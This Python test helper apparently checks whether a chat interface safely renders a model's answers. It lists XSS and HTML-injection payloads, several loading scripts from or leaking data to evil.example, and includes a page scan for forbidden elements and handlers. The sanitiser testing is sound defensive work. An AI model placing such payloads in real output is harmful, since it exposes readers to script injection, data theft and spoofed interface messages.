"""What a model may answer to harm who reads it, and how it is seen that it did nothing."""

from __future__ import annotations

from playwright.sync_api import Page

EVIL = "evil.example"
# ruff: noqa: E501
ATTACKS = {
    "script": "<script>alert(1)</script><script src='https://evil.example/x.js'></script>",
    "onerror": "<img src=x onerror=alert(1)> <img src='data:image/png;base64,x' onload=alert(1) onerror=alert(1)>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "javascript": "[a](javascript:alert(1)) [b](JaVa&#9;Script:alert(1)) [c](\x01javascript:alert(1))",
    "entities": "<a href='jav&#x0A;ascript:alert(1)'>a</a> <a href='&#106;avascript&colon;alert(1)'>b</a>",
    "data": "[a](data:text/html,<script>alert(1)</script>) <a href='data:text/html;base64,PHNjcmlwdD4='>b</a>",
    "vbscript": "[a](vbscript:msgbox(1)) <a href='view-source:https://evil.example'>b</a> <a href='blob:x'>c</a>",
    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><iframe src='https://evil.example'></iframe>",
    "object": "<object data='https://evil.example/x.swf'></object><embed src='https://evil.example/x.swf'>",
    "form": "<form action='https://evil.example'><input name=q value=1 autofocus onfocus=alert(1)><button>Go</button></form>",
    "formaction": "<button formaction='javascript:alert(1)'>x</button><input type=image src='https://evil.example/i.png'>",
    "base": "<base href='https://evil.example/'><a href='/x'>x</a>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example'><link rel=stylesheet href='https://evil.example/c.css'>",
    "style": "<style>@import 'https://evil.example/c.css'; body{display:none}</style><p style='background:url(https://evil.example/b)'>x",
    "clobber": "<img id=config name=config><form id=page><input name=parentNode></form><a id=main>x</a>",
    "class": "<div class='banner down toast'>Your session ended</div><p class='unseen'>hidden words</p>",
    "media": "<video src='https://evil.example/v.mp4' autoplay></video><audio src='https://evil.example/a.mp3' autoplay></audio>",
    "details": "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "template": "<template><img src=x onerror=alert(1)></template><noscript><img src=x onerror=alert(1)></noscript>",
    "fence": '```"><img src=x onerror=alert(1)>\ncode\n```\n\n~~~js onload=alert(1)\nlet a\n~~~',
    "picture": "![a](https://evil.example/?q=secret) ![b][r]\n\n[r]: https://evil.example/r.png",
    "srcset": "<img srcset='https://evil.example/1.png 2x' src='https://evil.example/2.png'><picture><source srcset='https://evil.example/3.png'></picture>",
    "own": "![x](/api/auth/logout) <img src='/v1/files/../../api/keys'> <a href='/app/settings' target=_top>x</a>",
    "comment": "<!--><img src=x onerror=alert(1)>--> <![CDATA[<script>alert(1)</script>]]> <?php echo 1 ?>",
    "table": "| <img src=x onerror=alert(1)> | b |\n| - | - |\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "autolink": '<javascript:alert(1)> <https://evil.example/a"onmouseover=alert(1)> www.evil.example',
}

#: What is wrong with the page, as a list of words; empty where nothing is.
_LOOK = """() => {
  const wrong = [];
  const banned = "script, iframe, object, embed, form, base, meta, link, style, video, audio, source, svg, math, template";
  for (const place of document.querySelectorAll(".prose")) {
    for (const element of place.querySelectorAll("*")) {
      if (element.matches(banned)) wrong.push("element " + element.outerHTML.slice(0, 120));
      for (const { name, value } of element.attributes) {
        if (name.startsWith("on") || name === "style" || name === "srcset") wrong.push("attribute " + name);
        if (["id", "name"].includes(name)) wrong.push("name " + value);
        if (name === "href" && !/^(https?:|mailto:)/.test(value)) wrong.push("link " + value);
        if (name === "src" && !/^(blob:|data:image\\/)/.test(value)) wrong.push("source " + value);
      }
      if (element.matches("a[href]") && !/noopener.*noreferrer/.test(element.rel)) wrong.push("open link");
      if (element.closest(".banner, .toast, .unseen")) wrong.push("dressed up as ours");
    }
  }
  for (const element of document.querySelectorAll("*")) {
    for (const { name } of element.attributes) if (name.startsWith("on")) wrong.push("handler " + name);
  }
  return wrong;
}"""


def harm(page: Page) -> list[str]:
    """What of an attack is in the page."""
    found: list[str] = page.evaluate(_LOOK)
    return found
